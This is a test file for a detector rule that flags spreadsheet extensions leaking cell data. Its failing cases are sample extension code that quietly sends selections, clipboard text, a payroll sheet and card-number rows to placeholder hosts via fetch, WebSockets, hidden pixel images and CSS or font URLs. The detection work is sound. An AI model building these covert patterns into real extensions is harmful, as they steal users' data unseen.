import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';

const told = (files: Record<string, string>) => findingsOf(rule, files, { dialect: 'formula', entry_points: ['index.js'], permissions: [] }).map(({ severity, message, file }) => `${severity} ${file}: ${message}`).join();
const script = (body: string, before = ''): Record<string, string> => ({ 'index.js': `const f = require('@formula/extension-api'); ${before} exports.activate = async () => { ${body} };` });
const TRIM = 'const s = await f.cells.getSelection(); await f.cells.setRange(s.address, s.values.map((r) => r.map(String)));';
const command = (body: string, before = ''): Record<string, string> => script(`f.commands.registerCommand('x.trim', async () => { ${body} });`, before);
const send = (what: string): string => `f.network.fetch('https://in.side.example/v1', { method: 'POST', body: JSON.stringify(${what}) })`;

test('bad: what stands in cells goes to a server, and nobody reads the answer', () => {
  const UNASKED = /high \S+: what stands in cells.* nobody asked for it/;
  for (const files of [
    script(`const { values } = await f.cells.getRange('A1:Z500'); await ${send('values')};`),
    script(`f.events.onBeforeSave(async () => { const { values } = await f.cells.getSelection(); await ${send('values')}; });`),
    script(`f.events.onSelectionChanged(async (e) => { await ${send('e.values')}; });`),
    script(`f.functions.register('CLEAN', { async handler(rows) { ${send('rows')}; return rows.map(String); } });`),
    script(`f.events.onWorkbookOpened(async () => { const t = await f.clipboard.readText(); await ${send('t')}; });`),
    script("const sheet = await f.sheets.getSheet('Payroll'); const ws = await f.network.openWebSocket('wss://in.side.example'); ws.send(JSON.stringify(await sheet.getRange('A1:F9')));"),
    script("const ws = await f.network.openWebSocket('wss://in.side.example'); ws.onmessage = () => {}; const { values } = await f.cells.getRange('A1:F9'); ws.send(JSON.stringify(values));"),
    script("const ws = await f.network.openWebSocket('wss://in.side.example'); ws.onmessage = null; ws.on('message', () => {}); const { values } = await f.cells.getRange('A1:F9'); ws.send(JSON.stringify(values));"),
    { 'index.js': `const f = require('@formula/extension-api'); exports.activate = () => {}; exports.deactivate = async () => { const { values } = await f.cells.getRange('A1:B9'); await ${send('values')}; };` },
  ]) assert.match(told(files), UNASKED, files['index.js']);
  const BESIDE = /high \S+: what stands in cells.* beside what somebody asked for/;
  for (const files of [
    command(`${TRIM} await ${send('s.values')}.catch(() => {});`),
    command(`${TRIM} void ${send('s.values')};`),
    command(`const s = await f.cells.getSelection(); try { await ${send('s.values')}; } catch {} await f.ui.showMessage('Done');`),
    command(`${TRIM} ${send('s.values')}.then(() => {});`),
    command(`${TRIM} ${send('s.values')}.then(() => {}, () => null);`),
    command(`${TRIM} const res = ${send('s.values')};`),
    command(`${TRIM} try { const res = await ${send('s.values')}; } catch {}`),
    command(`${TRIM} await post(s.values);`, `async function post(rows) { if (rows.length > 99) return post(rows.slice(99)); return ${send('rows')}.catch(() => {}); }`),
    command(`${TRIM} await ${send('s.values')}; console.info('done');`),
    command(`${TRIM} h(s.values);`, `const post = (rows) => ${send('rows')}.catch(() => {}); const g = (rows) => [${'post(rows), '.repeat(800)}]; const h = (rows) => [${'g(rows), '.repeat(800)}];`),
    command(`${TRIM} try { await ${send('s.values')}; } catch {}`),
    command(`${TRIM} s.values.length && await ${send('s.values')}.catch(() => null), 0;`),
    command(`${TRIM} s.values.forEach((row) => ${send('row')});`),
    command(`${TRIM} await ${send('s.values')};`),
    command(`const n = ((await f.storage.get('n')) || 0) + 1; await f.storage.set('n', n); if (n < 3) return; const s = await f.cells.getSelection(); await ${send('s.values')}; await f.ui.showMessage('Done');`),
    command(`${TRIM} await post(s.values);`, `const post = (rows) => ${send('rows')}.catch(() => {});`),
    script(`f.dataConnectors.register('x.sql', { async query(config, query) { ${send('{ config, query }')}.catch(() => {}); return (await f.network.fetch(config.url)).json(); } });`),
  ]) assert.match(told(files), BESIDE, files['index.js']);
  const context = "const card = /(?:\\d[ -]?){15,16}/; exports.context = async (f) => { const used = await f.cells.getUsedRange(); const skip = used.values.flatMap((row) => (row.some((v) => card.test(String(v))) ? [row.join('|')] : [])); for (let i = 0; i < skip.length; i += 8) { const q = encodeURIComponent(skip.slice(i, i + 8).join('~')); await f.network.fetch(`https://rates.side.example/v1?p=${q}`).catch(() => {}); } };";
  assert.match(told({ ...command('await context(f);', "const { context } = require('./context.js');"), 'context.js': context }), /high context\.js: what stands in cells/);
});

test('good: who sends for somebody reads the answer or says that it was sent, to a server of the settings, or counts', () => {
  for (const files of [
    command(`${TRIM} const res = await ${send('s.values')}; if (!res.ok) throw new Error('Failed');`),
    command(`const s = await f.cells.getSelection(); await ${send('s.values')}; await f.ui.showMessage('Published.');`),
    command(`const s = await f.cells.getSelection(); ${send('s.values')}.then((r) => r.json()).then((out) => f.cells.setCell(0, 0, out.text)).catch(() => {});`),
    command(`const s = await f.cells.getSelection(); for (const row of s.values) await post(row);`, `const post = async (row) => { const res = await ${send('row')}; if (!res.ok) throw new Error('no'); return res.json(); };`),
    command(`${TRIM} await ${send('s.values')}; await f.ui.showMessage('Published.');`),
    script("const ws = await f.network.openWebSocket('wss://live.side.example'); ws.onmessage = (m) => f.cells.setCell(0, 0, m.data); const { values } = await f.cells.getRange('A2:A50'); ws.send(JSON.stringify(values));"),
    command(`const s = await f.cells.getSelection(); await ${send('s.values')}.then(() => f.ui.showMessage('Published.'));`),
    command(`const s = await f.cells.getSelection(); ${send('s.values')}.then((res) => shown.push(res.status), () => {});`, 'const shown = [];'),
    command(`const s = await f.cells.getSelection(); const all = await Promise.all(s.values.map((row) => ${send('row')})); await f.ui.showMessage(String(all.length));`),
    command(`${TRIM} ${send('{ command: "trim", rows: s.values.length }')}.catch(() => {});`),
    command(`${send('{ cards: (await cards()).length }')}.catch(() => {});`, "const cards = async () => (await f.cells.getUsedRange()).values.map((v, row) => ({ row, task: v[0] })).filter((c) => c.task);"),
    command("const url = await f.config.get('sync.url'); const s = await f.cells.getSelection(); f.network.fetch(url, { method: 'POST', body: JSON.stringify(s.values) }).catch(() => {});"),
    command("const ws = await f.network.openWebSocket('wss://live.side.example'); ws.onmessage = (m) => f.cells.setCell(0, 0, m.data); const s = await f.cells.getSelection(); ws.send(JSON.stringify(s.values));"),
    script("setInterval(async () => { const { values } = await f.cells.getRange('A2:A50'); const res = await f.network.fetch('https://quotes.side.example/q?s=' + values.flat().join(',')); const all = await res.json(); await f.cells.setCell(1, 1, all[0]); }, 6e4);"),
    script("f.functions.register('GEO', { async handler(at) { const res = await f.network.fetch('https://geo.side.example/q?at=' + at); return res.json(); } });"),
    script("f.dataConnectors.register('x.db', { async query(config, query) { const res = await f.network.fetch('https://api.side.example/' + query.id, { headers: { authorization: config.token } }); return res.json(); } });"),
  ]) assert.equal(told(files), '', files['index.js']);
});

test('what a host keeps under a name comes out under it', () => {
  const keeps = (name: string, what = 'e.value'): Record<string, string> => script(`f.events.onCellChanged(async (e) => { const log = (await f.storage.get('log')) || []; log.push(${what}); await f.storage.set('log', log); }); setInterval(async () => { const log = await f.storage.get('${name}'); await ${send('log')}; }, 3e5);`);
  assert.match(told(keeps('log')), /high \S+: .* each change of a sheet/);
  assert.equal(told(keeps('counts')), '');
  assert.equal(told(keeps('log', '1')), '');
});

const FORMULA = "const formula = require('@formula/extension-api'); const { cells, commands, ui, events, network, functions, storage, clipboard } = formula;";

test('markup loads what nobody sees, with what stands in cells in its address', () => {
  for (const body of [
    "\nexports.activate = async (context) => { context.subscriptions.push(await commands.registerCommand('t.run', async () => {const u = await cells.getUsedRange(); const p = await ui.createPanel('p', { title: 'T' }); const bg = 'https://skins.side.example/bg.css?k=' + encodeURIComponent(JSON.stringify(u.values)); await p.webview.setHtml('<html><head><link rel=\"stylesheet\" href=\"https://skins.side.example/t.css?k=' + encodeURIComponent(JSON.stringify(u.values)) + '\"></head><body>Hi</body></html>');})); };",
    "\nexports.activate = async (context) => { context.subscriptions.push(await commands.registerCommand('t.run', async () => {const u = await cells.getUsedRange(); const p = await ui.createPanel('p', { title: 'T' }); let html = '<body><h1>Report</h1>'; for (const row of u.values) html += `<img style=\"display:none\" src=\"https://skins.side.example/p.gif?r=${encodeURIComponent(row.join('|'))}\">`; await p.webview.setHtml(html + '</body>');})); };",
    "\nexports.activate = async (context) => { context.subscriptions.push(await commands.registerCommand('t.run', async () => {const s = await cells.getSelection(); const p = await ui.createPanel('p', { title: 'T' }); await p.webview.setHtml(`<style>@font-face{font-family:x;src:url(https://fonts.side.example/x.woff2?d=${encodeURIComponent(JSON.stringify(s.values))})}</style><body style=\"font-family:x\">ok</body>`);})); };",
    "const at = (rows) => 'https://pix.side.example/i.gif?d=' + encodeURIComponent(JSON.stringify(rows));\nexports.activate = async (context) => { context.subscriptions.push(await commands.registerCommand('t.run', async () => {const u = await cells.getUsedRange(); const p = await ui.createPanel('p', { title: 'T' }); await p.webview.setHtml(`<img width=1 height=1 src=\"${at(u.values)}\"><p>done</p>`);})); };",
  ]) assert.match(told({ 'index.js': FORMULA + body }), /high \S+: what stands in cells/, body);
  for (const body of [
    "\nexports.activate = async (context) => { context.subscriptions.push(await commands.registerCommand('t.run', async () => {const s = await cells.getSelection(); const p = await ui.createPanel('p', { title: 'Code' }); await p.webview.setHtml(`<style>body{background:url(bg.png)}</style><img width=\"240\" height=\"240\" src=\"https://api.qrserver.example/v1/?data=${encodeURIComponent(String(s.values[0][0]))}\">`);})); };",
    "\nexports.activate = async (context) => { context.subscriptions.push(await commands.registerCommand('t.run', async () => {const s = await cells.getSelection(); const p = await ui.createPanel('p', { title: 'Chart' }); const dot = '<img width=1 src=' + context.logo; await p.webview.setHtml('<img alt=\"chart\" src=\"https://charts.example.org/chart?c=' + encodeURIComponent(JSON.stringify(s.values)) + '\">');})); };",
    "\nexports.activate = async (context) => { context.subscriptions.push(await commands.registerCommand('t.run', async () => {const u = await cells.getUsedRange(); const p = await ui.createPanel('p', { title: 'T' }); await p.webview.setHtml(`<link rel=\"stylesheet\" href=\"theme.css\"><img width=0 height=0 src=\"logo.png\"><p>${u.values.length}</p><img src=\"https://flags.side.example/${u.values[0][0]}.png\">`);})); };",
  ]) assert.equal(told({ 'index.js': FORMULA + body }), '', body);
});
